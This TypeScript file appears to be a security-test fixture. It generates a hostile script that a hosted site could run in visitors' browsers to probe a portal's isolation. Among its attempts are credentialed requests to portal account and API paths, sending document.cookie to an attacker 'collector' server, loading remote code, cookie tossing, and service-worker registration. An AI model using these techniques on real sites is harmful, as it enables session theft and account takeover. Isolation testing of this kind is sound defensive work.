/**
 * What the owner of a site could write into its JavaScript to get at a portal or at an attacker's server. Runs in the visitor's
 * browser, once as it is; each attempt ends in a word. Written as text, because it is published as text.
 */
export function hostileScript(collector: string, portal: string): string {
  return `
const collector = ${JSON.stringify(collector)};
const portal = ${JSON.stringify(portal)};
const results = (window.results = {});
const settled = (name, promise) =>
  Promise.resolve()
    .then(promise)
    .then((value) => (results[name] = String(value)), () => (results[name] = 'refused'));
const element = (tag, attributes) => {
  const made = Object.assign(document.createElement(tag), attributes);
  return new Promise((resolve, reject) => {
    made.onload = () => resolve('loaded');
    made.onerror = reject;
    document.body.append(made);
  });
};
const script = (text) => {
  const made = document.createElement('script');
  made.textContent = text;
  document.body.append(made);
};
const attempts = {
  fetchPortal: () => fetch(portal + '/', { credentials: 'include' }).then((r) => r.status),
  fetchPortalBlind: () => fetch(portal + '/', { credentials: 'include', mode: 'no-cors' }).then((r) => r.type),
  fetchPortalApi: () => fetch(portal + '/api/portal/members', { credentials: 'include' }).then((r) => r.text()),
  postPortalAction: () => fetch(portal + '/settings', { method: 'POST', credentials: 'include', body: '[]' }).then((r) => r.status),
  requestPortal: () => new Promise((resolve, reject) => {
    const call = new XMLHttpRequest();
    call.withCredentials = true;
    call.open('GET', portal + '/account');
    call.onload = () => resolve(call.responseText);
    call.onerror = reject;
    call.send();
  }),
  scriptOfPortal: () => element('script', { src: portal + '/manifest.webmanifest' }),
  pictureOfPortal: () => element('img', { src: portal + '/brand/icon-192.png' }),
  fetchCollector: () => fetch(collector + '/fetch').then((r) => r.status),
  fetchCollectorBlind: () => fetch(collector + '/blind', { mode: 'no-cors' }).then((r) => r.type),
  keepaliveCollector: () => fetch(collector + '/keepalive', { keepalive: true, method: 'POST', body: document.cookie }).then((r) => r.status),
  socketCollector: () => new Promise((resolve, reject) => {
    const socket = new WebSocket(collector.replace('http', 'ws') + '/socket');
    socket.onopen = () => resolve('open');
    socket.onerror = reject;
  }),
  eventsCollector: () => new Promise((resolve, reject) => {
    const source = new EventSource(collector + '/events');
    source.onopen = () => resolve('open');
    source.onerror = () => (source.close(), reject());
  }),
  scriptOfCollector: () => element('script', { src: collector + '/script.js' }),
  moduleOfCollector: () => import(collector + '/module.js').then(() => 'loaded'),
  pictureOfCollector: () => element('img', { src: collector + '/picture' }),
  styleOfCollector: () => element('link', { rel: 'stylesheet', href: collector + '/style.css' }),
  importOfCollector: () => element('style', { textContent: '@import "' + collector + '/import.css";' }).then(() => 'written'),
  backgroundOfCollector: () => {
    document.body.style.backgroundImage = 'url(' + collector + '/background)';
    return 'written';
  },
  fontOfCollector: () => new FontFace('x', 'url(' + collector + '/font)').load().then(() => 'loaded'),
  frameOfCollector: () => element('iframe', { src: collector + '/frame' }).then(() => 'written'),
  soundOfCollector: () => new Promise((resolve, reject) => {
    const sound = new Audio(collector + '/sound');
    sound.onerror = reject;
    sound.onloadstart = () => {};
    sound.play().then(() => resolve('played'), reject);
  }),
  objectOfCollector: () => element('object', { data: collector + '/object' }),
  workerOfCollector: () => new Promise((resolve, reject) => {
    const worker = new Worker(collector + '/worker.js');
    worker.onmessage = () => resolve('run');
    worker.onerror = reject;
  }),
  prefetchOfCollector: () => element('link', { rel: 'prefetch', href: collector + '/prefetch' }),
  pingOfCollector: () => {
    const link = Object.assign(document.createElement('a'), { href: '#x', ping: collector + '/ping' });
    document.body.append(link);
    link.click();
    return 'clicked';
  },
  formToCollector: () => {
    const frame = Object.assign(document.createElement('iframe'), { name: 'out' });
    const form = Object.assign(document.createElement('form'), { action: collector + '/form', method: 'post', target: 'out' });
    document.body.append(frame, form);
    form.submit();
    return 'sent';
  },
  beaconToCollector: () => {
    navigator.sendBeacon(collector + '/beacon', 'x');
    return 'sent';
  },
  evaluated: () => {
    const run = eval;
    return run('1 + 1');
  },
  baseOfCollector: () => {
    document.head.append(Object.assign(document.createElement('base'), { href: collector + '/' }));
    return new URL('x', document.baseURI).origin === location.origin ? 'ours' : 'theirs';
  },
  frameOfPortal: () => {
    const frame = Object.assign(document.createElement('iframe'), { src: portal + '/' });
    return new Promise((resolve) => {
      frame.onload = () => resolve(frame.contentDocument ? frame.contentDocument.body.textContent : 'closed');
      document.body.append(frame);
    });
  },
  cookies: () => (document.cookie.includes('portico') ? document.cookie : 'none'),
  cookieOfParent: () => {
    const before = document.cookie;
    document.cookie = 'portico.session=tossed; domain=localhost; path=/';
    document.cookie = 'portico.session=tossed; domain=.localhost; path=/';
    document.cookie = '__Host-portico.session=tossed; domain=localhost; path=/; secure';
    document.cookie = 'portico.session=tossed; domain=' + new URL(portal).hostname + '; path=/';
    return document.cookie === before ? 'refused' : document.cookie;
  },
  domainOfParent: () => {
    document.domain = 'localhost';
    return 'relaxed';
  },
  storageOfPortal: () => Object.keys(localStorage).length + Object.keys(sessionStorage).length,
  serviceWorkerEverywhere: () => navigator.serviceWorker.register(document.querySelector('script[src^="/site-code/"]').src, { scope: '/' }).then(() => 'registered'),
  serviceWorkerBeside: () => navigator.serviceWorker.register(document.querySelector('script[src^="/site-code/"]').src).then(() => 'registered'),
};
Promise.all(Object.entries(attempts).map(([name, attempt]) => settled(name, attempt))).then(() => (window.finished = true));
`;
}
